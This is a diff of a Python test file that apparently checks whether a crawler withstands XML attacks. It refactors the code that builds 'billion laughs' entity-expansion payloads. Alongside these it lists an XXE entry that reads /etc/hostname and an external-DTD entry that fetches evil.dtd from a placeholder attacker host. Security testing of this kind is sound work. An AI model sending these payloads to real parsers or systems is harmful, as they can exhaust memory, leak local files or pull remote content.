@@ -21,9 +21,9 @@ from support import article_page, lorem, run_crawl
 
 HOSTNAME = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").exists() else ""
 LAUGHS = '<!ENTITY lol0 "lol">' + "".join(
-    f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10))
+    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
 PARAMETER_LAUGHS = '<!ENTITY % pe0 "lol">' + "".join(
-    f'<!ENTITY % pe{i} "{("&#37;pe%d;" % (i - 1)) * 10}">' for i in range(1, 10)) + "%pe9;"
+    f'<!ENTITY % pe{i} "{f"&#37;pe{i - 1};" * 10}">' for i in range(1, 10)) + "%pe9;"
 ATTACKS = {  # name -> (DOCTYPE, what goes in the first entry's link)
     "xxe": ('<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>', "&xxe;"),
     "external_dtd": ('<!DOCTYPE r SYSTEM "{evil}/evil.dtd">', "&fromdtd;"),
